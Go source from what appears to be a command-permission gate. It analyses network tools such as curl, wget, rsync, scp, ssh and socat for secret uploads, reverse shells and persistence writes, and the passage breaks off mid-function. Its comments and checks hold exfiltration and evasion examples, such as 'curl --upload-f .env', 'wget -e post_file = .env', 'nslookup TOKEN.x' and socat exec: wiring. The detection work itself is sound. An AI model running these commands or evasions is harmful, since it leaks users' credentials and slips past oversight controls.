package gate

import (
	"net/url"
	"path"
	"slices"
	"strings"

	"github.com/perm-peer/perm-peer/gate/internal/argv"
	"github.com/perm-peer/perm-peer/gate/internal/cmds"
	"github.com/perm-peer/perm-peer/protocol"
	"github.com/perm-peer/perm-peer/redact"
)

// The network clients (cmds/net.go) are read here: the table says what a
// client reaches and which of its flags take a value; these hooks read the
// words the table cannot describe.

// netHooks and uploadSyntaxes are the names a table entry's Hook and
// Uploads may take: the cases of network's and uploadCandidates' switches
// (TestNetHooksResolve).
const (
	netHooks       = "curl wget aria2c httpie ssh rsync openssl"
	uploadSyntaxes = "curl wget attach socat ftp tftp smbclient"
)

// unlistedNet is the declaration of a program read as a network client
// that the net table lacks (gcloud storage cp, getent hosts: uploaders and
// resolvers): it reaches the network and nothing more is known of it.
var unlistedNet = &cmds.NetTool{}

// netTool is lb's network-client declaration, unlistedNet when it has none.
func netTool(lb string) *cmds.NetTool {
	if t := cmds.NetOf(lb); t != nil {
		return t
	}
	return unlistedNet
}

// netReads reports a network client whose words the network hook reads.
func netReads(lb string) bool {
	t := cmds.NetOf(lb)
	return t != nil && t.Reads()
}

// netKnown reports a network client the gate models, even by name only:
// not one of which only its exposure is read (ngrok, autossh).
func netKnown(lb string) bool {
	t := cmds.NetOf(lb)
	return t != nil && t.Words != cmds.ExposureOnly
}

// literalCredential reports a word written with a credential in it (a
// token, a key, a URL's password): what redact would hide in the audit.
func literalCredential(w word) bool {
	return !w.dyn && redact.String(w.val) != w.val
}

func remoteArgs(args []word) bool {
	for _, w := range args {
		if isRemote(w.val) {
			return true
		}
	}
	return false
}

// cloudDest reports a storage destination: s3://b, gs://b, remote:path.
func cloudDest(v string) bool {
	return strings.Contains(v, "://") || isRemote(v)
}

// remoteDest reports an scp/rsync line whose last operand (the
// destination) is on another host.
func remoteDest(args []word) bool {
	return len(args) > 0 && isRemote(args[len(args)-1].val)
}

// copyTarget is the local destination of a copy from another host (scp,
// rsync, sftp: vals are the options that take a value): the last operand,
// when an earlier one is remote and it is not.
func copyTarget(args []word, vals map[string]bool) (word, bool) {
	if vals == nil {
		return word{}, false
	}
	var ops []word
	for i := 0; i < len(args); i++ {
		switch v := args[i].val; {
		case vals[v]:
			i++
		case !strings.HasPrefix(v, "-") || args[i].dyn:
			ops = append(ops, args[i])
		}
	}
	n := len(ops)
	if n < 2 || ops[n-1].dyn || isRemote(ops[n-1].val) || !slices.ContainsFunc(ops[:n-1], func(w word) bool { return isRemote(w.val) }) {
		return word{}, false
	}
	return ops[n-1], true
}

// rsyncExcludes returns the --exclude patterns of an rsync line (its
// entry's flags that set cmds.RsyncExclude), or none when a rule could
// bring an excluded file back (cmds.RsyncRule) or a word among its
// options is only known at run time.
func rsyncExcludes(lb string, args []word) []string {
	inv := parseArgs(cmds.Lookup(lb), args)
	end := len(args)
	if inv.Ended > 0 {
		end = inv.Ended - 1
	}
	if slices.ContainsFunc(args[:end], func(w word) bool { return w.dyn }) {
		return nil
	}
	var pats []string
	for _, u := range inv.Uses {
		switch u.Flag.Sets {
		case cmds.RsyncRule:
			return nil
		case cmds.RsyncExclude:
			if w, ok := valueWord(args, u); ok {
				pats = append(pats, w.val)
			}
		}
	}
	return pats
}

// isRemote reports scp/rsync host:path operands.
func isRemote(v string) bool {
	if strings.HasPrefix(v, "-") || strings.HasPrefix(v, "/") || strings.HasPrefix(v, ".") || strings.HasPrefix(v, "~") {
		return strings.Contains(v, "://")
	}
	c := strings.IndexByte(v, ':')
	sl := strings.IndexByte(v, '/')
	return c > 0 && (sl < 0 || c < sl) || strings.Contains(v, "://")
}

// network records hosts, uploads and reverse shells of network tools.
func (a *analyzer) network(f *rfact, idx int, lb string, args []word, sc *scope) summary {
	t := netTool(lb)
	s := summary{net: true, rawNet: t.Net == cmds.Socket, downloader: t.Downloader()}
	c := netCall{a: a, f: f, idx: idx, lb: lb, t: t, args: longForms(args, t), sc: sc}
	switch t.Hook {
	case "openssl":
		if !c.openssl() {
			return summary{}
		}
	case "ssh":
		c.sshCommand()
	case "wget":
		c.args = wgetExecute(c.args, t.Files)
	case "curl":
		c.curlConfig()
		c.writeOut()
	}
	args = c.args
	if cmds.NetcatOf(lb) != nil && netcatRuns(args) {
		f.floor = reason("floor.reverse-shell", lb+" runs a program for a network peer")
	}
	if slices.ContainsFunc(args, literalCredential) {
		// curl "https://x/?t=ghp_…", nslookup TOKEN.x: like WebFetch of that URL
		f.human = reason("human.secret-url", lb+" sends what looks like a credential")
	}
	if t.Hook != "openssl" { // its hook read them
		c.localFiles()
	}
	sensitiveBefore := len(a.facts)
	if d, ok := copyTarget(args, t.ValueFlags()); ok && t.Copies {
		a.writeWord(d, sc, idx) // scp host:x ~/.bashrc writes ~/.bashrc
	} else if c.dests = c.download(); c.dests != nil {
		for _, d := range c.dests {
			a.writeWord(args[d], sc, idx) // gsutil cp gs://b/x ~/.bashrc, rclone copy r:b ~/.ssh/: written, not sent
		}
	}
	if opts, ok := cmds.TransferOf(lb); ok {
		c.ftpBatch(opts)
	}
	// programs whose file operands and --*file* values are sent
	c.fileOps = t.SendsFiles || lookupSubcmd(uploaders, lb, args)
	for i := 0; i < len(args); i++ {
		if c.word(i) {
			i++
		}
	}
	for j, g := range a.facts[sensitiveBefore:] {
		if c.inProgram(sensitiveBefore + j) {
			continue // rclone --password-command 'pass show x': read here, not sent
		}
		if g.human != nil && g.human.Code == "human.sensitive-read" && a.surelySensitive(g.path) {
			f.floor = reason("floor.exfil", "a sensitive file is sent to the network")
		}
	}
	if savesRemoteName(t.Hook, args) {
		c.remoteNames()
		c.serverNames()
	}
	// curl file:///… reads a local file (and prints it): a read, not an upload
	for _, w := range args {
		if u, err := url.Parse(w.val); err == nil && strings.EqualFold(u.Scheme, "file") && !w.dyn {
			i := a.readFact(a.resolvePath(u.Path, sc.cwd, false), idx, false)
			if h := a.facts[i].human; h != nil && h.Code == "human.sensitive-read" {
				s.taint = true
			}
		}
	}
	return s
}

// writeOut: curl -w '%output{FILE}' (curl 8.3) writes what follows to
// FILE, %output{>>FILE} appends: a write as -o's is. Read in every word,
// so no spelling of -w hides it (a URL has no "%ou", not being hex).
func (c *netCall) writeOut() {
	for _, w := range c.args {
		rest := w.val
		for {
			_, after, ok := strings.Cut(rest, "%output{")
			if !ok {
				break
			}
			name, tail, _ := strings.Cut(after, "}")
			c.a.writeWord(word{val: strings.TrimPrefix(name, ">>"), dyn: w.dyn}, c.sc, c.idx)
			rest = tail
		}
	}
}

// longForms spells each abbreviated long option of args in full, as the
// client reads it (cmds.NetTool.LongName), up to the "--" that ends them:
// curl --upload-f .env is --upload-file .env to every reader below.
func longForms(args []word, t *cmds.NetTool) []word {
	if t.Longs == "" {
		return args
	}
	var out []word
	flags := args
	if dd := switchesOnly.End(len(args), wordAt(args)); dd > 0 {
		flags = args[:dd-1]
	}
	for i, w := range flags {
		if w.dyn || !strings.HasPrefix(w.val, "--") {
			continue
		}
		name, val, eq := strings.Cut(w.val[2:], "=")
		full := t.LongName(name)
		if full == name {
			continue
		}
		if out == nil {
			out = slices.Clone(args)
		}
		out[i].val = "--" + full
		if eq {
			out[i].val += "=" + val
		}
	}
	if out == nil {
		return args
	}
	return out
}

// localFiles reads the values of the client's flags whose value is a file
// it reads or writes here (cmds.NetTool.Files: curl -D FILE, wget
// --load-cookies FILE): a secret read or a persistence file written is
// human-only. They are not uploads, so they stay out of the exfil floor.
func (c *netCall) localFiles() {
	for i := 0; i < len(c.args); i++ {
		fl, val, attached := c.t.FileFlag(c.args[i].val)
		if fl == nil {
			continue
		}
		w := word{val: val, dyn: c.args[i].dyn}
		if !attached {
			if i+1 >= len(c.args) {
				return
			}
			i++
			w = c.args[i]
		}
		switch {
		case w.val == "-": // standard input or output
		case fl.Role == argv.Read:
			c.a.readWord(w, c.sc, c.idx, false)
		case fl.Role == argv.Write:
			c.a.writeWord(w, c.sc, c.idx)
		}
	}
}

// openssl reads the files openssl's flags name (its entry's Files: -in,
// -out, -sess_out…), and reports a call that reaches the network: only
// s_client and s_server do.
func (c *netCall) openssl() (net bool) {
	c.localFiles()
	return hasWord(c.args, "s_client") || hasWord(c.args, "s_server")
}

// curlConfig adds to curl's arguments the options curl -K - reads from
// stdin: they count as arguments.
func (c *netCall) curlConfig() {
	for _, w := range optionValues(c.args, 'K', "--config") {
		if !w.dyn && (w.val == "-" || isStdinPath(w.val)) {
			if in := c.a.stdinCode(); in != nil {
				c.args = append(slices.Clone(c.args), curlConfigArgs(in.text)...)
			}
			return
		}
	}
}

// savesRemoteName reports a download saved under the URL's file name: curl
// -O, wget without -O (or --spider, which saves nothing), aria2c without
// -o, httpie's and xh's --download without -o.
func savesRemoteName(hook string, args []word) bool {
	switch hook {
	case "curl":
		return hasShort(args, "O") || hasFlag(args, "--remote-name", "--remote-name-all")
	case "wget":
		return len(optionValues(args, 'O', "--output-document")) == 0 && !hasFlag(args, "--spider")
	case "aria2c":
		return len(optionValues(args, 'o', "--out")) == 0
	case "httpie":
		return (hasShort(args, "d") || hasFlag(args, "--download")) && len(optionValues(args, 'o', "--output")) == 0
	}
	return false
}

// serverNames: curl -OJ, wget --content-disposition or
// --trust-server-names save under the name the server sends
// (Content-Disposition, a redirect's last segment): any name in the
// directory, .envrc, AGENTS.md or .mcp.json among them, so the write is
// human-only.
func (c *netCall) serverNames() {
	named := false
	switch c.t.Hook {
	case "curl":
		named = hasShortBefore(c.args, "J", c.t.ShortValues) || hasFlag(c.args, "--remote-header-name")
	case "wget":
		named = hasFlag(c.args, "--content-disposition", "--trust-server-names")
	}
	if !named {
		return
	}
	d := savedIn(c.args, c.t.Hook, word{val: "."})
	c.a.add(&rfact{kind: protocol.FactWrite, path: c.a.resolveMaybe(d, d.val, c.sc, true), parent: c.idx,
		human: reason("human.persistence-write", c.lb+" saves under a name the server chooses, which may be .envrc, AGENTS.md or .mcp.json")})
}

// remoteNames writes the files a download saves under its URLs' names: a
// file a later command may run.
func (c *netCall) remoteNames() {
	for _, w := range c.args {
		u, err := url.Parse(w.val)
		if err != nil || u.Host == "" || w.dyn {
			continue
		}
		name := path.Base(u.Path)
		if name == "/" || name == "." {
			if c.t.Hook != "wget" && c.t.Hook != "aria2c" {
				continue
			}
			name = "index.html" // wget https://example.com saves index.html
		}
		mid := len(c.a.facts)
		c.a.writeWord(savedIn(c.args, c.t.Hook, word{val: name}), c.sc, c.idx)
		for _, g := range c.a.facts[mid:] {
			c.a.markFetched(g.path)
		}
	}
}

// download lists the local files or directories a copy from a storage
// service writes (gsutil cp gs://b/x F, aws s3 sync s3://b/ DIR, rclone
// copy r:b DIR), when the call is one of its entry's Gets subcommands and
// its last operand is local: each local operand after the first one on the
// service. The values of its Values flags are no operands (aws s3 cp
// s3://b/x F --exclude PAT writes F); the value of a flag it does not know
// is written too, so a misread value cannot hide the real destination.
func (c *netCall) download() []int {
	ops := operands(c.args, c.t.ValueFlags())
	for _, sub := range c.t.Gets {
		lead := strings.Fields(sub)
		n := len(lead)
		if len(ops) < n+2 || !slices.EqualFunc(ops[:n], lead, func(i int, v string) bool { return c.args[i].val == v && !c.args[i].dyn }) {
			continue
		}
		last := ops[len(ops)-1]
		first := slices.IndexFunc(ops[n:], func(i int) bool { return onService(c.args[i].val) })
		if c.args[last].dyn || onService(c.args[last].val) || first < 0 {
			return nil
		}
		return slices.DeleteFunc(slices.Clone(ops[n+first+1:]), func(i int) bool { return onService(c.args[i].val) })
	}
	return nil
}

// onService reports a storage operand on the service, not a local path:
// s3://b/x, gs://b, rclone's remote:path and :backend:path.
func onService(v string) bool {
	return isRemote(v) || strings.HasPrefix(v, ":") && strings.Count(v, ":") > 1
}

// netCall is one network tool's call being analysed: its fact, words and
// scope.
type netCall struct {
	a       *analyzer
	f       *rfact
	idx     int
	lb      string
	t       *cmds.NetTool
	args    []word
	sc      *scope
	fileOps bool  // its file operands and --*file* values are sent
	dests   []int // the operands a download writes, not sent
	// programs are the ranges of facts of the programs its Programs flags
	// run: what they read is not what the client sends
	programs [][2]int
}

// inProgram reports fact j to be one of a program the client runs (scp
// -S PROG, rclone --password-command CMD).
func (c *netCall) inProgram(j int) bool {
	return slices.ContainsFunc(c.programs, func(r [2]int) bool { return r[0] <= j && j < r[1] })
}

// word reads word i of the tool's arguments; skip: word i+1 is its value.
func (c *netCall) word(i int) (skip bool) {
	if skip, done := c.option(i); done {
		return skip
	}
	c.uploads(i)
	c.copies(i)
	c.fileOperand(i)
	return false
}

// option reads word i as one of the tool's options: a proxy, an output file,
// a command it runs (rsync -e, ssh -o ProxyCommand, wget --use-askpass), a
// URL. skip: the next word is its value; done: nothing else reads word i.
func (c *netCall) option(i int) (skip, done bool) {
	v, hasValue := c.args[i].val, i+1 < len(c.args)
	switch {
	case c.t.Hook == "rsync" && (v == "--exclude" || v == "--include" || v == "--filter" || v == "-f") && hasValue:
		return true, true // rsync --exclude .env . h:/x: a pattern, not a file it sends
	case (c.t.Hook == "curl" || c.t.Hook == "wget") && (v == "-x" || v == "--proxy" || v == "--preproxy") && hasValue:
		c.proxy(c.args[i+1].val) // curl -x HOST: the traffic goes through that host
		return true, true
	case strings.Contains(v, "://"):
		c.url(v)
		return false, true
	case c.t.ValueFlags() == nil:
		if name, skip, ok := c.outputValue(i); ok {
			c.output(name)
			return skip, true
		}
	}
	if skip, done := c.runs(i); done {
		return skip, true
	}
	switch {
	case c.t.ValueFlags()[v]:
		return true, true // identity, config, jump host, port: not uploads
	case c.t.Net == cmds.Socket && (strings.Contains(strings.ToLower(v), "exec:") || strings.Contains(strings.ToLower(v), "system:")):
		c.f.floor = reason("floor.reverse-shell", c.lb+" wires a program to a socket")
	}
	return false, false
}

// proxy records the host of a proxy the traffic goes through.
func (c *netCall) proxy(p string) {
	if !strings.Contains(p, "://") {
		p = "http://" + p
	}
	if u, err := url.Parse(p); err == nil && u.Hostname() != "" {
		c.a.add(&rfact{kind: protocol.FactNetwork, host: u.Hostname(), parent: c.idx})
	}
}

// url records the host of a URL; one the gate cannot parse asks.
func (c *netCall) url(v string) {
	if u, err := url.Parse(v); err == nil && u.Hostname() != "" {
		c.a.add(&rfact{kind: protocol.FactNetwork, host: u.Hostname(), parent: c.idx})
	} else {
		c.a.add(&rfact{kind: protocol.FactNetwork, host: v, parent: c.idx, ask: reason("ask.network", "a URL the gate cannot parse")})
	}
}

// outputValue reads word i as the flag naming the file a download is
// saved in, in every spelling: -o FILE, --output FILE and wget's -O and
// --output-document[=FILE]; for a client whose letters that take a value
// the table gives (cmds.NetTool.ShortValues), also -oFILE and in a
// cluster (curl -sSLo FILE). skip: the next word is the file.
func (c *netCall) outputValue(i int) (name word, skip, ok bool) {
	w := c.args[i]
	v, hasValue := w.val, i+1 < len(c.args)
	if w.dyn || len(v) < 2 || v[0] != '-' {
		return word{}, false, false
	}
	if long, val, eq := strings.Cut(v, "="); long == "--output" || long == "--output-document" {
		switch {
		case eq:
			return word{val: val}, false, true
		case hasValue:
			return c.args[i+1], true, true
		}
		return word{}, false, false
	}
	if c.t.ShortValues == "" {
		// a client whose short flags the table does not spell out: -o alone
		return c.args[min(i+1, len(c.args)-1)], true, v == "-o" && hasValue
	}
	letter := byte('o')
	if c.t.Hook == "wget" {
		letter = 'O'
	}
	for j := 1; j < len(v) && isASCIILetter(v[j]); j++ {
		switch {
		case v[j] == letter && j+1 < len(v):
			return word{val: v[j+1:]}, false, true
		case v[j] == letter && hasValue:
			return c.args[i+1], true, true
		case v[j] == letter, strings.IndexByte(c.t.ShortValues, v[j]) >= 0:
			return word{}, false, false // a letter before it takes the rest
		}
	}
	return word{}, false, false
}

// output writes the file a download is saved to (-o FILE), in the
// downloader's directory: a file a later command may run.
func (c *netCall) output(name word) {
	if name.val == "-" && !name.dyn {
		return // -o -: the download goes to stdout
	}
	mid := len(c.a.facts)
	c.a.writeWord(savedIn(c.args, c.t.Hook, name), c.sc, c.idx)
	for _, g := range c.a.facts[mid:] {
		c.a.markFetched(g.path)
	}
}

// runs reads word i as an option whose value is a command the tool runs:
// scp -S and sftp -D (its entry's Programs), wget --use-askpass, rsync --rsync-path (on the remote host) and -e, ssh's
// -o and -F (ProxyCommand, LocalCommand). skip: the next word is its
// value; done: word i is one.
func (c *netCall) runs(i int) (skip, done bool) {
	a, f, idx, args, sc := c.a, c.f, c.idx, c.args, c.sc
	v := args[i].val
	if fl, prog, attached, ok := c.t.ProgramFlag(v); ok {
		// scp -S PROG runs PROG in ssh's place, sftp -D PROG as its server
		if !attached {
			if i+1 >= len(args) {
				return false, true
			}
			prog, skip = args[i+1].val, true
		}
		f.ask = reason("ask.flag", c.lb+" "+fl+" runs a local program")
		start := len(a.facts)
		a.reparse(prog, sc, idx)
		c.programs = append(c.programs, [2]int{start, len(a.facts)})
		return skip, true
	}
	switch {
	case c.t.Hook == "wget" && strings.HasPrefix(v, "--") && strings.Contains(v, "=") && longOpt(strings.TrimPrefix(v[:strings.IndexByte(v, '=')], "--"), wgetLong) == "use-askpass":
		// wget --use-askpass=CMD runs CMD for the credentials
		f.ask = reason("ask.flag", "wget --use-askpass runs a command")
		a.reparse(v[strings.IndexByte(v, '=')+1:], sc, idx)
		return false, true
	case (v == "--rsync-path" || strings.HasPrefix(v, "--rsync-path=")) && c.t.Hook == "rsync":
		// rsync --rsync-path=CMD: the remote shell runs CMD, read as ssh's
		// remote command is (rm -rf ~ there deletes a home too)
		cmd, found := strings.CutPrefix(v, "--rsync-path=")
		if !found && i+1 < len(args) {
			cmd, skip = args[i+1].val, true
		}
		a.reparse(cmd, sc, idx)
		return skip, true
	case (v == "-e" || v == "--rsh" || strings.HasPrefix(v, "--rsh=")) && c.t.Hook == "rsync":
		cmd := strings.TrimPrefix(v, "--rsh=")
		if (v == "-e" || v == "--rsh") && i+1 < len(args) {
			cmd, skip = args[i+1].val, true
		}
		f.ask = reason("ask.flag", "rsync -e runs a command as its transport")
		a.reparse(cmd, sc, idx)
		return skip, true
	case strings.HasPrefix(v, "-o") && c.t.SSHConfig:
		// -o ProxyCommand=… / LocalCommand=… run a local command
		opt := strings.TrimPrefix(v, "-o")
		if opt == "" && i+1 < len(args) {
			opt, skip = args[i+1].val, true
		}
		if k, cmd, ok := sshCommandOpt(opt); ok {
			f.ask = reason("ask.flag", c.lb+" -o "+k+" runs a local command")
			a.reparse(cmd, sc, idx)
		}
		return skip, true
	case v == "-F" && c.t.SSHConfig && i+1 < len(args):
		// ssh -F /dev/stdin <<< 'ProxyCommand CMD': a config the call gives
		if in := a.scriptFrom(args[i+1]); in != nil {
			for _, line := range strings.Split(in.text, "\n") {
				if k, cmd, ok := sshCommandOpt(line); ok {
					f.ask = reason("ask.flag", c.lb+" -F config with "+k+" runs a local command")
					a.reparse(cmd, sc, idx)
				}
			}
		}
		return true, true
	}
	return false, false
}

// uploads reads the files word i makes the tool send (curl -d @F, -T F, -F k=@F),
// and socat's files it writes.
func (c *netCall) uploads(i int) {
	a, idx, args, sc := c.a, c.idx, c.args, c.sc
	w := c.args[i]
	v := c.args[i].val
	for _, cand := range uploadCandidates(c.t, args, i, v) {
		a.readFact(a.resolveMaybe(w, cand, sc, false), idx, false)
		// find -exec curl -T {}: names a listing did not keep from secrets
		if i+1 < len(args) && args[i+1].val == cand {
			w = args[i+1]
		}
		if w.dyn && w.secretPaths {
			a.readWord(word{val: cand, dyn: true, secretPaths: true}, sc, idx, false)
		}
		w = args[i]
	}
	if c.t.Uploads == "socat" {
		for _, p := range []string{"create:", "gopen:", "open:"} {
			if strings.HasPrefix(strings.ToLower(v), p) && (p != "open:" || strings.Contains(strings.ToLower(v), "creat")) {
				a.writeWord(word{val: strings.SplitN(v[len(p):], ",", 2)[0], dyn: w.dyn}, sc, idx)
			}
		}
	}
	// f=.env; curl -d @$f: the values the word can take are known
	for _, alt := range w.alts {
		for _, cand := range uploadCandidates(c.t, args, i, alt) {
			a.readFact(a.resolvePath(cand, sc.cwd, false), idx, false)
		}
	}
}

// copies reads scp/rsync/sftp operand i: a host it copies to, or a file or a
// directory (with the secrets in it) it sends.
func (c *netCall) copies(i int) {
	a, idx, args, sc := c.a, c.idx, c.args, c.sc
	w := c.args[i]
	v := c.args[i].val
	if c.t.Copies && !strings.HasPrefix(v, "-") {
		if !isRemote(v) && !w.dyn && remoteDest(args) && i < len(args)-1 {
			// rsync -a . host:, scp -r . host: copy the directory's
			// hidden files too: a .env in it goes to the other host
			var excl []string
			if c.t.Hook == "rsync" {
				excl = rsyncExcludes(c.lb, args)
			}
			// scp -r follows links; rsync with -L, --copy-links,
			// --copy-unsafe-links (a link out of the tree)
			follow := c.t.Hook != "rsync" || hasShort(args, "L") || hasLongAbbrev(args, "--copy-links", "--copy-unsafe-links")
			r := a.resolvePath(v, sc.cwd, false)
			if found, capped := a.dirSecret(r, follow, excl...); found {
				a.add(&rfact{kind: protocol.FactRead, path: r, parent: idx,
					human: reason("human.sensitive-read", "copies a directory that holds a sensitive file to another host")})
			} else if capped {
				a.add(&rfact{kind: protocol.FactRead, path: r, parent: idx,
					human: reason("human.unchecked-dir", "copies a directory too large to check for secrets such as .env to another host")})
			}
		}
		if isRemote(v) {
			host := v[:strings.IndexByte(v, ':')]
			if at := strings.LastIndexByte(host, '@'); at >= 0 {
				host = host[at+1:]
			}
			a.add(&rfact{kind: protocol.FactNetwork, host: host, parent: idx})
		} else {
			a.readWord(w, sc, idx, false)
		}
	}
}

// fileOperand reads word i of a tool whose file operands and --*file* values are
// sent (SendsFiles: gh, aws, rclone, the mailers; uploaders), and the directories it syncs.
func (c *netCall) fileOperand(i int) {
	a, idx, lb, args, sc := c.a, c.idx, c.lb, c.args, c.sc
	w := c.args[i]
	v := c.args[i].val
	if c.fileOps && i > 0 && !slices.Contains(c.dests, i) {
		// a file operand, --body-file=FILE, -F.env, gh api -F key=@FILE,
		// aws file://FILE
		var cands []string
		val := v
		if n, x, ok := strings.Cut(v, "="); ok && strings.HasPrefix(v, "--") {
			val = x
			if strings.Contains(n, "file") {
				cands = append(cands, x)
			}
		}
		switch {
		case !strings.HasPrefix(v, "-") && !strings.Contains(v, ":"):
			cands = append(cands, v)
		case strings.HasPrefix(val, "file://") || strings.HasPrefix(val, "fileb://"):
			cands = append(cands, strings.TrimPrefix(strings.TrimPrefix(val, "fileb://"), "file://"))
		case c.t.FormFiles && len(v) > 2 && v[0] == '-' && v[1] == 'F':
			cands = append(cands, v[2:])
		}
		if c.t.FormFiles && uploadField().MatchString(val) {
			cands = append(cands, val[uploadField().FindStringSubmatchIndex(val)[3]:])
		}
		for _, cand := range cands {
			if r := a.resolveMaybe(w, cand, sc, false); a.sensitive(r) {
				a.readFact(r, idx, false)
			} else if i < len(args)-1 && cloudDest(args[len(args)-1].val) || c.toService(i) || i > 0 && (args[i-1].val == "-s" || args[i-1].val == "--source") ||
				cmds.ClassOf(lb) == argv.Sender {
				// aws s3 sync . s3://b, rclone copy . remote:, az …
				// upload-batch -s .: the directory's .env goes along
				if found, capped := a.dirSecret(r, c.followsLinks()); found {
					a.add(&rfact{kind: protocol.FactRead, path: r, parent: idx,
						human: reason("human.sensitive-read", "uploads a directory that holds a sensitive file")})
				} else if capped {
					a.add(&rfact{kind: protocol.FactRead, path: r, parent: idx,
						human: reason("human.unchecked-dir", "uploads a directory too large to check for secrets such as .env")})
				}
			}
		}
	}
}

// toService reports an operand after operand i on a storage service: aws
// s3 sync . s3://b --profile p sends the directory whatever flags follow.
func (c *netCall) toService(i int) bool {
	return slices.ContainsFunc(operands(c.args, c.t.ValueFlags()), func(j int) bool { return j > i && cloudDest(c.args[j].val) })
}

// ftpBatch reads the batches a file-transfer client runs (cmds.Transfer):
// its puts upload (reads, so a secret among them is sent), its gets write
// local files.
func (c *netCall) ftpBatch(opts cmds.Transfer) {
	a, idx, args, sc := c.a, c.idx, c.args, c.sc
	var scripts []string
	fromStdin := true
	if opts.Files != 0 {
		for _, w := range optionValues(args, opts.Files, "") {
			if w.val != "-" {
				a.readWord(w, sc, idx, false)
				fromStdin = false
			}
		}
	}
	for _, o := range []byte{opts.Scripts, opts.Exits} {
		if o == 0 {
			continue
		}
		for _, w := range optionValues(args, o, "") {
			scripts = append(scripts, w.val)
			fromStdin = fromStdin && o != opts.Exits
		}
	}
	if in := a.stdin; fromStdin && in != nil {
		a.stdin = nil
		scripts = append(scripts, in.text)
	}
	for _, script := range scripts {
		for _, name := range putOperands(script) {
			a.readWord(word{val: name}, sc, idx, false)
		}
		for _, name := range getTargets(script) {
			a.writeWord(word{val: name}, sc, idx)
		}
	}
}

// savedIn is where a downloader saves the file name: in the directory of
// curl --output-dir, wget -P/--directory-prefix or aria2c -d/--dir when
// one is given (wget -P .git/hooks URL writes a hook).
func savedIn(args []word, hook string, name word) word {
	var dirs []word
	switch hook {
	case "curl":
		dirs = optionValues(args, 0, "--output-dir")
	case "wget":
		dirs = optionValues(args, 'P', "--directory-prefix")
	case "aria2c":
		dirs = optionValues(args, 'd', "--dir")
	default:
		return name
	}
	if len(dirs) == 0 || strings.HasPrefix(name.val, "/") || name.val == "-" {
		return name
	}
	d := dirs[len(dirs)-1]
	return word{val: strings.TrimSuffix(d.val, "/") + "/" + name.val, dyn: d.dyn || name.dyn}
}

// sshCommand analyses the command ssh runs on the remote host as if it ran
// here: the remote machine is as much the user's as this one (rm -rf ~
// there deletes a home too) and its secrets as sensitive, and the local
// reading of its paths can only ask more, never less. ssh itself still asks.
func (c *netCall) sshCommand() {
	args := c.args
	ops := operands(args, c.t.ValueFlags())
	if len(ops) < 2 {
		return // no remote command: an interactive login
	}
	words := make([]string, 0, len(ops)-1)
	for _, i := range ops[1:] {
		words = append(words, args[i].val)
	}
	// ssh joins its remaining words with spaces and the remote shell parses
	// the result, as this does.
	c.a.reparse(strings.Join(words, " "), c.sc, c.idx)
}

// uploadField matches the start of a form or httpie field whose value is a
// file: name=@, name=<, name@, name:=@, name:@.
// gh api -F 'files[a.txt][content]=@FILE' nests keys in brackets.
var uploadField = lazyRE(`^[A-Za-z0-9_.\[\]-]*(=@|=<|:=@|:@|@)()`)

// sshCommandOpt reads an ssh option (-o value or a config line) that runs
// a local command: ProxyCommand, LocalCommand, KnownHostsCommand, Match exec.
func sshCommandOpt(opt string) (key, cmd string, ok bool) {
	opt = strings.TrimSpace(opt)
	k, val, found := strings.Cut(opt, "=")
	if !found || strings.ContainsAny(k, " \t") {
		k, val, _ = strings.Cut(opt, " ")
	}
	k, val = strings.ToLower(strings.TrimSpace(k)), strings.TrimSpace(val)
	switch k {
	case "proxycommand", "localcommand", "knownhostscommand":
		return k, val, true
	case "match":
		if _, e, ok := strings.Cut(val, "exec "); ok {
			return "match exec", strings.Trim(strings.TrimSpace(e), `"`), true
		}
	}
	return "", "", false
}

// wgetLong are wget's long options that name a file to send, with their
// neighbours: wget takes any unambiguous prefix (--post-f=FILE).
var wgetLong = []string{"post-file", "body-file", "input-file", "post-data", "body-data", "input-metalink", "inet4-only", "inet6-only",
	"use-askpass", "use-server-timestamps", "user", "user-agent", "output-document"}

// wgetExecute turns wget -e 'post_file = .env' (a .wgetrc command; names
// ignore case, '-' and '_') into the option it stands for, --post-file .env;
// also the commands named like one of files, wget's flags whose value is
// a local file (-e save_cookies=~/.bashrc).
func wgetExecute(args []word, files []argv.Flag) []word {
	var extra []word
	for _, w := range optionValues(args, 'e', "--execute") {
		n, val, ok := strings.Cut(w.val, "=")
		if !ok {
			continue
		}
		key := strings.NewReplacer("-", "", "_", "").Replace(strings.ToLower(strings.TrimSpace(n)))
		for _, o := range wgetLong {
			if strings.ReplaceAll(o, "-", "") == key {
				extra = append(extra, word{val: "--" + o + "=" + strings.TrimSpace(val), dyn: w.dyn})
			}
		}
		for _, f := range files {
			for _, o := range strings.Fields(f.Names) {
				if strings.HasPrefix(o, "--") && strings.ReplaceAll(o, "-", "") == key {
					extra = append(extra, word{val: o + "=" + strings.TrimSpace(val), dyn: w.dyn})
				}
			}
		}
	}
	if extra == nil {
		return args
	}
	return append(slices.Clone(args), extra...)
}

// curlConfigArgs turns a curl config text (curl -K) into arguments: each
// line is an option, with or without its dashes, and its value after
// blanks, '=' or ':', maybe double-quoted.
func curlConfigArgs(text string) []word {
	var out []word
	for _, line := range strings.Split(text, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || line[0] == '#' {
			continue
		}
		end := strings.IndexAny(line, " \t=:")
		name, val := line, ""
		if end >= 0 {
			name, val = line[:end], strings.TrimLeft(line[end:], " \t=:")
		}
		if !strings.HasPrefix(name, "-") {
			name = "--" + name
		}
		out = append(out, word{val: name})
		if q, ok := strings.CutPrefix(val, `"`); ok {
			val, _, _ = strings.Cut(strings.ReplaceAll(q, `\"`, "\x00"), `"`)
			val = strings.ReplaceAll(val, "\x00", `"`)
		}
		if val != "" {
			out = append(out, word{val: val})
		}
	}
	return out
}

// putOperands lists the local files a batch of file-transfer commands
// (sftp, ftp, lftp, smbclient -c) uploads: put and its kin, and the local
// tree of a reverse mirror (lftp mirror -R DIR).
func putOperands(script string) []string {
	var out []string
	for _, c := range strings.FieldsFunc(script, func(r rune) bool { return r == ';' || r == '\n' || r == '&' || r == '|' }) {
		f := strings.Fields(c)
		if len(f) < 2 {
			continue
		}
		switch f[0] {
		case "put", "mput", "reput", "send", "append", "mirror":
			out = append(out, localOperands(f)...)
		}
	}
	return out
}

// localOperands are the local files of one upload command: put's operands
// (lftp's -o REMOTE excepted), or a reverse mirror's source directory.
func localOperands(f []string) []string {
	var ops []string
	reverse := false
	for i := 1; i < len(f); i++ {
		switch v := f[i]; {
		case v == "-R" || v == "--reverse":
			reverse = true
		case v == "-o" || v == "-O" || v == "--target-directory":
			i++ // the remote name or directory
		case !strings.HasPrefix(v, "-"):
			ops = append(ops, v)
		}
	}
	if f[0] != "mirror" {
		return ops
